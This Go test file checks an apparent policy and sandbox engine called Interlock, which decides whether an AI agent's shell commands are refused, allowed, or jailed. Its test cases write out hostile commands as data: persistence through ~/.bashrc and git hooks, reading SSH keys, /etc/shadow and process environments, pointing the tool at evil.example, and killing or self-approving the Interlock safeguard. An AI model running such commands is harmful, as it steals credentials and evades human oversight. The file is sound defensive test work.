package toolcall_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/interlock-run/interlock/pkg/jail"
	"github.com/interlock-run/interlock/pkg/toolcall"
	"github.com/interlock-run/interlock/pkg/workflow"
)

// jailedState is a state of a run in the workspace /repo.
func jailedState(t testing.TB, state, meta string) (*workflow.Machine, *workflow.View) {
	t.Helper()
	m, at := inState(t, state, meta)
	at.Workspace = "/repo"
	return m, at
}

func decideIn(m *workflow.Machine, at *workflow.View, line string, level jail.Level) toolcall.Verdict {
	return toolcall.Decide(m, at, toolcall.Call{Tool: "Bash", Input: []byte(bash(line)), Jail: level})
}

const readingState = `{"allowed_tools": ["Read", "Bash"]}`

// TestCertainWritesAreRefused: S20.3. In a jail a line is refused for its certain writes into the
// workspace or a protected place.
func TestCertainWritesAreRefused(t *testing.T) {
	t.Parallel()
	m, at := jailedState(t, readingState, `{"jail": {"write": ["/srv/out", "docs"], "caches": ["target", "~/.cache/foo"]}}`)
	for _, line := range []string{
		"echo x > a.txt", "echo x >> /repo/a.txt", "cat a &> b", "make > build.log 2>&1", "rm a", "rm -rf build", "rm -- -a", "mv a /tmp/a", "mv /tmp/a b", "cp /tmp/a b",
		"cp -t . /tmp/a", "cp --target-directory=src /tmp/a", "tee a < /dev/null", "touch a", "touch -d yesterday a", "mkdir -p a/b", "mkdir -m 755 a", "rmdir a", "ln -s /tmp/a",
		"ln -s /tmp/a b", "install -m 644 /tmp/a b", "truncate -s 0 a", "chmod +x a", "chown me a", "chmod --reference=b a", "sed -i s/a/b/ f", "sed -n -i.bak -e s/a/b/ f",
		"sed --in-place s/a/b/ f", "sed -Ei 's/a/b/' src/f", "dd if=/dev/zero of=a", "patch -p1 < x", "git checkout main", "git reset --hard", "git -C /repo merge x", "git -C sub stash",
		"git clean -fdx", "cd sub && rm a", "cd /repo/sub && touch a", "(cd sub; touch a)", "cd /tmp && touch /repo/a", "./odd; rm a", "python -c 'x' && touch a",
		"echo x >> ~/.bashrc", "touch ~/.config/systemd/user/a.service", "echo x > ~/.local/bin/ls", "rm ~/.zshrc", "echo x > .git/hooks/pre-commit", "time touch a", "env A=1 rm a",
		"timeout 5 touch a", "bash -c 'touch a'", "echo docs > docs2", "touch docs/a b",
	} {
		if v := decideIn(m, at, line, jail.Full); v.Code != toolcall.CodeCommandWrites && v.Code != toolcall.CodeSelfProtected {
			t.Errorf("%q: %s %s", line, v.Decision, v.Code)
		} else if v.Jail != nil {
			t.Errorf("%q is denied with a jail", line)
		}
	}
}

// TestGuessesPass: S20.3. The kernel holds unknown programs, hidden code and options,
// and writes to places that the state does not keep.
func TestGuessesPass(t *testing.T) {
	t.Parallel()
	m, at := jailedState(t, readingState, `{"jail": {"write": ["/srv/out", "docs"], "caches": ["target", "~/.cache/foo"]}}`)
	for _, line := range []string{
		"unheard-of --of a", "/opt/x/tool", "python -c 'open(\"a\", \"w\")'", "node -e 1", "perl -pi -e 1 a", "awk '{print > \"a\"}' b", "sort -o a b", "curl -o a https://x.example",
		"find . -delete", "find . -exec rm {} ;", "xargs rm < list", "$CMD a", "eval \"$X\"", "source ./env.sh", "sh < script", "cat x | bash", "bash x.sh", "LD_PRELOAD=x ls", "PATH=. ls",
		"git frobnicate", "go generate ./...", "npm install", "tar xf a.tar", "unzip a.zip", "gcc a.c", "sed 'w out' a", "vim -c q", "make CC=evil", "PAGER=x git log",
		"rm /tmp/a", "touch /tmp/a", "echo x > /tmp/a", "echo x > $TMPDIR/a", "echo x > \"$F\"", "rm $F", "rm *.o", "mkdir -p $(mktemp -d)", "cd /tmp && touch a", "cd $X && rm a",
		"cd /tmp/x; mkdir build; cd build; touch a", "pushd /tmp; popd; rm a", "touch /srv/out/a", "echo x > docs/a.md", "rm -rf target/debug", "touch ~/.cache/foo/x", "touch ~/notes",
		"cp a /tmp/b", "git -C /tmp/clone checkout x", "git --git-dir=/tmp/x reset --hard", "dd if=a of=/tmp/x", "sed -i s/a/b/ /tmp/f", "echo $((a[$(evil)]))", "echo 'a", "cat <<EOF\nx",
	} {
		v := decideIn(m, at, line, jail.Full)
		if v.Decision != toolcall.Allow || v.Jail == nil {
			t.Errorf("%q: %s %s %s", line, v.Decision, v.Code, v.Detail)
			continue
		}
		if v.Jail.Writes != jail.WritesDiscard || v.Jail.Network != jail.NetworkNone || v.Jail.Level != jail.Full || v.Jail.Workspace != "/repo" {
			t.Errorf("%q: %s", line, v.Jail.JSON())
		}
		if v := decideIn(m, at, line, jail.None); v.Jail != nil {
			t.Errorf("%q has a jail at level 0", line)
		}
	}
}

// TestOpaqueDeniedInJail: S20.3. The author's word on code of the workspace binds in a jail as well.
func TestOpaqueDeniedInJail(t *testing.T) {
	t.Parallel()
	m, at := jailedState(t, `{"allowed_tools": ["Read", "Bash"], "opaque_commands": "deny"}`, `{}`)
	for line, want := range map[string]bool{
		"make": false, "./x.sh": false, "npm test": false, "/repo/bin/x": false, "python x.py": false, "python -c 'import evil'": false, "cat x | bash": false, "source ./x": false, "echo 'a": false,
		"ls": true, "unheard-of": true, "touch /tmp/a": true, "echo x > $TMPDIR/a": true, "sort -o /tmp/x a": false,
	} {
		if v := decideIn(m, at, line, jail.Full); (v.Decision == toolcall.Allow) != want {
			t.Errorf("%q: %s %s %s", line, v.Decision, v.Code, v.Detail)
		}
	}
}

// TestWordsOfTheAuthorBind: S20.3. allowed_commands, declared writers and named variables are refused as
// without a jail.
func TestWordsOfTheAuthorBind(t *testing.T) {
	t.Parallel()
	listed, at := jailedState(t, `{"allowed_tools": ["Read", "Bash"], "allowed_commands": ["make test", "unheard-of"]}`, `{}`)
	for line, want := range map[string]toolcall.Code{
		"make test": "", "unheard-of x": "", "make deploy": toolcall.CodeCommandNotAllowed, "make test; evil": toolcall.CodeCommandNotAllowed, "$X": toolcall.CodeCommandNotAllowed,
		"make test > a": toolcall.CodeCommandWrites, "make test > /tmp/a": "", "echo 'a": toolcall.CodeCommandUnparsable,
	} {
		if v := decideIn(listed, at, line, jail.Full); v.Code != want {
			t.Errorf("%q: %s %s", line, v.Code, v.Detail)
		}
	}
	declared, at := jailedState(t, readingState, `{"commands": {"acme": "writes"}}`)
	if v := decideIn(declared, at, "acme x", jail.Full); v.Code != toolcall.CodeCommandWrites {
		t.Errorf("a declared writer: %s", v.Code)
	}
	blocked, at := jailedState(t, `{"blocked_env": ["SECRET"]}`, `{}`)
	for line, want := range map[string]toolcall.Code{
		"echo $SECRET": toolcall.CodeEnvBlocked, "printenv SECRET": toolcall.CodeEnvBlocked, "env": "", "python x.py": "", "python -c 1": "", "export -p": "", "SECRET=1 make": "",
	} {
		v := decideIn(blocked, at, line, jail.Files)
		if v.Code != want {
			t.Errorf("%q: %s %s", line, v.Code, v.Detail)
		}
		if v.Decision == toolcall.Allow && v.Jail.Keeps("SECRET") {
			t.Errorf("%q keeps the blocked variable", line)
		}
	}
}

// TestSignalsAndOtherMachinesInJail: S20.3. From level 2 on the kernel holds signals and, where there is no
// network, acts on other machines: certain acts stay refused.
func TestSignalsAndOtherMachinesInJail(t *testing.T) {
	t.Parallel()
	m, at := jailedState(t, readingState, `{}`)
	editing, there := jailedState(t, `{}`, `{}`)
	hosts, online := jailedState(t, `{"allowed_tools": ["Read", "Bash"], "jail": {"hosts": ["x.example"]}}`, `{}`)
	for _, c := range []struct {
		line  string
		level jail.Level
		want  toolcall.Code
	}{
		{"kill 1234", jail.Full, toolcall.CodeSignals},
		{"kill -9 $PID", jail.Full, ""},
		{"kill -9 $PID", jail.Scoped, ""},
		{"kill -9 $PID", jail.Files, toolcall.CodeSignals},
		{"pkill -f server", jail.Full, toolcall.CodeSignals},
		{"pkill -f \"$X\"", jail.Full, ""},
		{"kubectl apply -f x", jail.Full, toolcall.CodeActsElsewhere},
		{"git push", jail.Full, toolcall.CodeActsElsewhere},
		{"curl -X POST https://x.example", jail.Full, toolcall.CodeActsElsewhere},
		{"mvn unheard:of", jail.Full, ""},
		{"mvn unheard:of", jail.Scoped, ""},
		{"mvn unheard:of", jail.Files, toolcall.CodeActsElsewhere},
		{"gh unheard of", jail.Full, ""},
	} {
		if v := decideIn(m, at, c.line, c.level); v.Code != c.want {
			t.Errorf("%q at %d: %s %s", c.line, c.level, v.Code, v.Detail)
		}
		if c.want == toolcall.CodeSignals {
			if v := decideIn(editing, there, c.line, c.level); v.Code != c.want {
				t.Errorf("%q at %d in a state that edits: %s", c.line, c.level, v.Code)
			}
		}
	}
	if v := decideIn(hosts, online, "mvn unheard:of", jail.Full); v.Code != toolcall.CodeActsElsewhere {
		t.Errorf("with hosts: %s", v.Code)
	}
}

// TestChosenByTheAuthor: S20.4, S20.7. Programs that allowed_commands names write, reach and have their
// credentials; those that build have not.
func TestChosenByTheAuthor(t *testing.T) {
	t.Parallel()
	m, at := jailedState(t, `{"allowed_tools": ["Bash"], "allowed_commands": ["git push", "git status", "gh *", "npm publish", "npm test", "rm", "mydeploy", "curl", "acme"]}`,
		`{"commands": {"acme": "writes"}}`)
	for _, c := range []struct {
		line           string
		writes         jail.Writes
		network        jail.Network
		lends, without string
	}{
		{"git push origin main", jail.WritesDiscard, jail.NetworkOpen, "SSH_AUTH_SOCK", "NPM_TOKEN"},
		{"git status", jail.WritesDiscard, jail.NetworkNone, "PATH", "SSH_AUTH_SOCK"},
		{"gh pr view 1", jail.WritesDiscard, jail.NetworkOpen, "GH_TOKEN", "SSH_AUTH_SOCK"},
		{"npm publish", jail.WritesDiscard, jail.NetworkOpen, "PATH", "NPM_TOKEN"},
		{"npm test", jail.WritesDiscard, jail.NetworkNone, "PATH", "NPM_TOKEN"},
		{"rm a", jail.WritesAllow, jail.NetworkNone, "PATH", "NPM_TOKEN"},
		{"acme x", jail.WritesAllow, jail.NetworkNone, "PATH", "NPM_TOKEN"},
		{"mydeploy", jail.WritesDiscard, jail.NetworkNone, "PATH", "NPM_TOKEN"},
		{"curl https://x.example", jail.WritesDiscard, jail.NetworkOpen, "PATH", "NPM_TOKEN"},
	} {
		v := decideIn(m, at, c.line, jail.Full)
		if v.Jail == nil {
			t.Errorf("%q: %s %s", c.line, v.Code, v.Detail)
			continue
		}
		if v.Jail.Writes != c.writes || v.Jail.Network != c.network || !v.Jail.Keeps(c.lends) || v.Jail.Keeps(c.without) {
			t.Errorf("%q: %s", c.line, v.Jail.JSON())
		}
	}
	lending, there := jailedState(t, `{"allowed_tools": ["Bash", "Edit"], "allowed_commands": ["git push", "gh *", "npm *", "python3 *", "cat", "git add", "cd"]}`, `{}`)
	for line, want := range map[string]bool{
		"git push origin x": true, "git push; python3 x.py": false, "npm test && git push": false, "python3 x.py & git push": false, "git push && gh pr create": true,
		"npm publish && git push": false, "git add a && git push": false, "cd sub && git push": false, "cd /repo && git push": true, "cat x; git push": false, "cat ~/.ssh/id && git push": false, "git branch x; git push": true, "cat ~/.ssh/id; npm test; git push": false,
	} {
		if v := decideIn(lending, there, line, jail.Full); v.Decision == toolcall.Allow && (v.Jail == nil || v.Jail.Keeps("SSH_AUTH_SOCK") != want || slices.Contains(v.Jail.Hide, "~/.ssh") == want) {
			t.Errorf("%q: %+v", line, v.Jail)
		}
	}
	reading, at := jailedState(t, readingState, `{}`)
	for line, want := range map[string]bool{
		"git add -A && git commit -m x": true, "git commit -m x && make": false, "git log": false,
		"git add a; python3 d.py": false, "python3 d.py | git commit -F -": false, "git add . && git status && git commit -m 'a b' && git log -1": true,
		"cd sub && git add a": true, "git add a; $X": false, "git -c core.fsmonitor='python3 d.py' add a": false,
		"GIT_EXTERNAL_DIFF=./x git add a": false, "git fetch origin; echo x | head -1": true, "git status": false, "make": false,
	} {
		if v := decideIn(reading, at, line, jail.Full); v.Jail == nil || slices.Contains(v.Jail.Write, ".git") != want {
			t.Errorf("%q: %s %+v", line, v.Code, v.Jail)
		}
	}
}

// TestDemandedLevel: S20.2. A line below the level that its state demands is denied, without exception.
func TestDemandedLevel(t *testing.T) {
	t.Parallel()
	for _, state := range []string{`{"jail": 2}`, `{"allowed_tools": ["Read", "Bash", "mcp__x__run", "write_stdin", "pwsh"], "jail": {"level": 2}}`, `{"allowed_tools": ["Bash", "Edit"]}`} {
		meta := `{}`
		if !strings.Contains(state, "jail") {
			meta = `{"jail": {"level": 2}}`
		}
		m, at := jailedState(t, state, meta)
		for level, want := range map[jail.Level]toolcall.Code{jail.None: toolcall.CodeJailRequired, jail.Files: toolcall.CodeJailRequired, jail.Scoped: "", jail.Full: ""} {
			v := decideIn(m, at, "ls", level)
			if v.Code != want {
				t.Errorf("%s at %d: %s %s", state, level, v.Code, v.Detail)
			}
			if want != "" {
				if message := v.Message(m, at); !strings.Contains(message, "demands level 2") || !strings.Contains(message, "interlock doctor") {
					t.Error(message)
				}
			} else if v.Jail == nil || v.Jail.Level != level {
				t.Errorf("%s at %d: %+v", state, level, v.Jail)
			}
		}
		for _, tool := range []string{"mcp__x__run", "write_stdin", "pwsh"} {
			if v := toolcall.Decide(m, at, toolcall.Call{Tool: tool, Input: []byte(bash("ls")), Jail: jail.Full}); v.Decision == toolcall.Allow {
				t.Errorf("%s: %s is allowed in no jail", state, tool)
			}
		}
		if v := toolcall.Decide(m, at, toolcall.Call{Tool: "Read", Input: []byte(`{"file_path": "a"}`)}); v.Code == toolcall.CodeJailRequired {
			t.Errorf("%s: a tool without a line needs a jail", state)
		}
	}
	m, at := jailedState(t, `{"jail": 3}`, `{}`)
	if v := decideIn(m, at, "interlock run get run_1", jail.None); v.Decision != toolcall.Allow || v.Jail != nil {
		t.Errorf("a command of Interlock for agents: %s %s", v.Code, v.Detail)
	}
}

// TestNoJailForOthers: S20.1. Tools that type into a running process, speak another language, or are
// of a server get no jail, and are judged as before.
func TestNoJailForOthers(t *testing.T) {
	t.Parallel()
	free, at := jailedState(t, `{}`, `{}`)
	reading, there := jailedState(t, `{"allowed_tools": ["Read", "Bash", "write_stdin", "mcp__box__bash", "pwsh", "sendKeys"]}`, `{}`)
	for _, tool := range []string{"write_stdin", "mcp__box__bash", "pwsh", "fish", "sendKeys", "mcp__a__ssh_exec", "Read", "Edit"} {
		call := toolcall.Call{Tool: tool, Input: []byte(bash("unheard-of")), Jail: jail.Full}
		if v := toolcall.Decide(free, at, call); v.Jail != nil {
			t.Errorf("%s has a jail", tool)
		}
		if v := toolcall.Decide(reading, there, call); toolcall.Shell(nil, tool) && v.Decision == toolcall.Allow {
			t.Errorf("%s runs a program that nobody has described", tool)
		}
	}
	for _, tool := range []string{"Bash", "bash", "shell", "exec_command", "run_in_terminal", "Monitor"} {
		if v := toolcall.Decide(free, at, toolcall.Call{Tool: tool, Input: []byte(bash("ls")), Jail: jail.Files}); v.Jail == nil || v.Jail.Writes != jail.WritesAllow {
			t.Errorf("%s: %s %+v", tool, v.Code, v.Jail)
		}
	}
	named, at := jailedState(t, `{"allowed_tools": ["mcp__box__go"], "allowed_commands_tool": "mcp__box__go", "allowed_commands": ["ls"]}`, `{}`)
	if v := toolcall.Decide(named, at, toolcall.Call{Tool: "mcp__box__go", Input: []byte(bash("ls")), Jail: jail.Files}); v.Jail == nil {
		t.Errorf("the named shell: %s %s", v.Code, v.Detail)
	}
	for line, own := range map[string]bool{
		"interlock state get a": true, "interlock check x; interlock run get x": true, "interlock run get x > a": false, "interlock run get x && make": false, "PATH=. interlock run get x": false,
		"./interlock run get x": false, "interlock run get $(evil)": false, "interlock run get x &": false,
		"interlock validate ~/.ssh/id_rsa": false, "interlock validate x.json": false, "interlock fmt x.json": false, "interlock test x": false, "interlock version": false,
		"interlock run get x --server evil.example:443": false, "interlock run get --server=evil.example:443": false, "interlock run get --token x": false,
		"interlock run get --data-dir=/tmp/x": false, "interlock run get x --ca /etc/shadow": false, "interlock run get $X": false, "interlock run get *": false,
		"interlock run transition GO --input @/home/u/.ssh/id": false, "interlock run transition GO --input=@x": false, `interlock run transition GO --input '{"a": 1}'`: true,
		"interlock report Bash --result @x": false, "interlock report Bash --result ok": true, "interlock session create --prompt-file x": false,
		"interlock state put a x.json": false, `interlock state put a --input '{"a": "@x"}'`: true, "interlock state create s --input @x": false,
		"interlock state patch a --op x.json": false, `interlock state patch a --op '{"op": "remove", "path": "/a"}'`: true, "interlock state patch a --merge=x.json": false,
		"interlock component begin c --values x": false, "interlock run get x; interlock validate y": false,
	} {
		if v := decideIn(free, there, line, jail.Full); v.Decision == toolcall.Allow && (v.Jail == nil) != own {
			t.Errorf("%q: with a jail: %v", line, v.Jail != nil)
		}
	}
	m, ended := jailedState(t, `{}`, `{"enforcement": "while_running"}`)
	ended.Status = workflow.Paused
	if v := decideIn(m, ended, "ls", jail.Full); v.Code != toolcall.CodeNotEnforced || v.Jail != nil {
		t.Errorf("a paused run: %s %+v", v.Code, v.Jail)
	}
	for _, line := range []string{"cat .interlock/tokens.json", `grep -rn "a/.interlock/" .`} {
		if v := decideIn(m, ended, line, jail.Full); v.Code != toolcall.CodeSelfProtected {
			t.Errorf("%q without a jail is judged as one with it: %s", line, v.Code)
		}
	}
}

// TestSelfProtectionInJail: S20.5. At level 3 a line is refused for its certain acts on Interlock,
// and not for a name that it mentions.
func TestSelfProtectionInJail(t *testing.T) {
	t.Parallel()
	m, at := jailedState(t, `{}`, `{}`)
	for _, line := range []string{
		"cat .interlock/tokens.json", "ls .interlock", "cat ~/.local/state/interlock/x/token.key", "cp -r .interlock /tmp", "echo x > .claude/settings.json", "rm .mcp.json", "touch .cursor/hooks.json",
		"interlock approval approve x", "interlock token create", "pkill interlock", "systemctl stop interlock", "cat /proc/self/environ", "gdb -p 12",
		"curl -H 'Authorization: ilk_" + strings.Repeat("a", 40) + "' x", "env interlock token create",
	} {
		if v := decideIn(m, at, line, jail.Full); v.Code != toolcall.CodeSelfProtected && v.Code != toolcall.CodeSignals {
			t.Errorf("%q: %s %s", line, v.Decision, v.Code)
		}
	}
	for _, line := range []string{
		`grep -rn ".interlock/" docs`, "rg .interlock", "git grep tokens.json", `python -c 'print(".interlock/tokens.json")'`, "find . -name '*.json'", "rm -rf ./*", "grep -r x ~", "$X token create",
		"cat .claude/settings.json", "python fix.py .claude/settings.json", "tar czf /tmp/x.tgz .", "eval \"$X\"", "ls ~/.*", "echo interlock; kill %1",
	} {
		if v := decideIn(m, at, line, jail.Full); v.Decision != toolcall.Allow || v.Jail == nil {
			t.Errorf("%q: %s %s", line, v.Code, v.Detail)
		}
		if v := decideIn(m, at, line, jail.Scoped); v.Decision == toolcall.Allow && v.Jail == nil {
			t.Errorf("%q runs without a jail", line)
		}
	}
}

// TestMeaningOfJailedLines: S20.4. A line that the kernel keeps from changing the workspace voids no
// evidence, and leaves no program running.
func TestMeaningOfJailedLines(t *testing.T) {
	t.Parallel()
	reading, at := jailedState(t, readingState, `{}`)
	editing, there := jailedState(t, `{}`, `{}`)
	written, docs := jailedState(t, readingState, `{"jail": {"write": ["docs"]}}`)
	granted, bg := jailedState(t, `{"jail": {"background": true}}`, `{}`)
	online, hosts := jailedState(t, `{"allowed_tools": ["Bash"], "jail": {"hosts": ["x.example"]}}`, `{}`)
	for _, c := range []struct {
		what                       string
		m                          *workflow.Machine
		at                         *workflow.View
		line                       string
		level                      jail.Level
		voids, background, affects bool
	}{
		{"a test", reading, at, "make test", jail.Full, false, false, false},
		{"a test without a jail", reading, at, "make test", jail.None, true, false, true},
		{"at level 1 the network is not held", reading, at, "make test", jail.Files, false, false, true},
		{"with hosts it may act there", online, hosts, "make test", jail.Full, false, false, true},
		{"in the background", reading, at, "make test &", jail.Full, false, false, false},
		{"an editing state", editing, there, "make test &", jail.Full, true, false, true},
		{"without a jail", editing, there, "make test &", jail.None, true, true, true},
		{"background is granted", granted, bg, "make test &", jail.Full, true, true, true},
		{"a folder is writable", written, docs, "make test", jail.Full, true, false, true},
	} {
		n := toolcall.MeaningOf(c.m, []*workflow.Machine{c.m}, c.at, toolcall.Call{Tool: "Bash", Input: []byte(bash(c.line)), Jail: c.level}, "")
		if n.Voids != c.voids || n.Background != c.background || n.Affects != c.affects {
			t.Errorf("%s: %+v", c.what, n)
		}
	}
	call := toolcall.Call{Tool: "Bash", Input: []byte(`{"command": "make", "run_in_background": true}`), Jail: jail.Full}
	if n := toolcall.MeaningOf(editing, []*workflow.Machine{editing}, there, call, ""); !n.Background {
		t.Error("a call that asks not to wait is at work after its report")
	}
}

// TestJailNeverOpens: S20.3. Of all lines of the manual: one that is allowed only because of a jail has a
// jail, and none that is allowed without a jail is denied with it.
func TestJailNeverOpens(t *testing.T) {
	t.Parallel()
	freed := 0
	for _, c := range commandCases(t) {
		m, at := jailedState(t, c.state, c.meta)
		plain := decideIn(m, at, c.line, jail.None)
		for level := jail.Files; level <= jail.Full; level++ {
			v := decideIn(m, at, c.line, level)
			switch {
			case v.Decision == toolcall.Allow && v.Jail == nil && plain.Decision != toolcall.Allow:
				t.Errorf("%s: %q runs without a jail at level %d", c.place, c.line, level)
			case v.Decision == toolcall.Allow && v.Jail != nil && v.Jail.Level != level:
				t.Errorf("%s: %q needs level %d", c.place, c.line, v.Jail.Level)
			case v.Decision != toolcall.Allow && plain.Decision == toolcall.Allow:
				t.Errorf("%s: %q is denied only in a jail: %s", c.place, c.line, v.Detail)
			case v.Decision == toolcall.Allow && plain.Decision != toolcall.Allow:
				freed++
			}
		}
	}
	if freed < 1000 {
		t.Errorf("only %d lines are freed", freed)
	}
}

func BenchmarkDecideJailed(b *testing.B) {
	m, at := jailedState(b, readingState, `{}`)
	for name, level := range map[string]jail.Level{"without": jail.None, "with": jail.Full} {
		b.Run(name, func(b *testing.B) {
			call := toolcall.Call{Tool: "Bash", Input: []byte(bash("go test ./pkg/... 2>&1 | tail -20")), Jail: level}
			b.ReportAllocs()
			for b.Loop() {
				toolcall.Decide(m, at, call)
			}
		})
	}
}

// TestReadingInJail: S20.6. After a failure the same lines are allowed as without a jail, and their profile only reads.
func TestReadingInJail(t *testing.T) {
	t.Parallel()
	m, at := failed(t, `{"jail": {"hosts": ["*"], "write": ["out"], "lend": ["GH_TOKEN"], "read": ["~/.aws"], "background": true, "writes": "deny"}}`)
	for line, want := range map[string]bool{"cat a": true, "grep -r .interlock docs": true, "make test": false, "unheard-of": false, "echo 'a": false, "cat .interlock/tokens.json": false, "rm a": false, "git push": false} {
		v := decideIn(m, at, line, jail.Full)
		if (v.Decision == toolcall.Allow) != want {
			t.Errorf("%q: %s %s", line, v.Code, v.Detail)
		}
		if p := v.Jail; want && (p == nil || p.Writes != jail.WritesDeny || p.Network != jail.NetworkNone || len(p.Write) > 0 || p.Keeps("GH_TOKEN") ||
			!slices.Contains(p.Hide, "~/.aws") || p.Background) {
			t.Errorf("%q: %+v", line, p)
		}
		if v := decideIn(m, at, line, jail.Scoped); (v.Decision == toolcall.Allow) != (line == "cat a") {
			t.Errorf("%q at level 2: %s", line, v.Code)
		}
	}
	demanding, at := failed(t, `{"jail": {"level": 2}}`)
	if v := decideIn(demanding, at, "cat a", jail.Files); v.Code != toolcall.CodeJailRequired {
		t.Errorf("below the demanded level: %s", v.Code)
	}
}

// TestChecksStartFresh: S20.4. Files that an earlier command of the run has left in caches or /tmp never
// decide the outcome of a command that evidence asks for.
func TestChecksStartFresh(t *testing.T) {
	t.Parallel()
	for settings, background := range map[string]bool{`{}`: false, `{"jail": {"background": true}}`: true} {
		def, problems := workflow.Parse([]byte(`{
			"id": "w", "initial": "s", "meta": ` + settings + `,
			"states": {"s": {"allowed_tools": ["Read", "Bash"], "on": {"DONE": {"target": "done", "guard": "g"}}}, "done": {"type": "final"}},
			"guards": {"g": {"evidence": "tests"}},
			"evidence": {"tests": {"tool": "Bash", "command": "go test ./...", "exact": true}}
		}`))
		if problems.HasErrors() {
			t.Fatal(problems)
		}
		m := workflow.Compile(def, 1)
		out := m.Start(workflow.StartParams{ID: "run_1", Owner: "ann"}, "ann", time.Time{})
		at := out.Run.At("")
		at.Workspace = "/repo"
		for line, fresh := range map[string]bool{
			"go test ./...": true, "go vet ./... && go test ./...": true, "go test ./... | tail": true, "go test -run X ./...": false, "make": false, "cat /tmp/x": false,
		} {
			v := decideIn(m, &at, line, jail.Full)
			if v.Jail == nil || v.Jail.Fresh != fresh || v.Jail.Reread != (fresh && background) {
				t.Errorf("%q: %+v", line, v.Jail)
			}
		}
	}
}
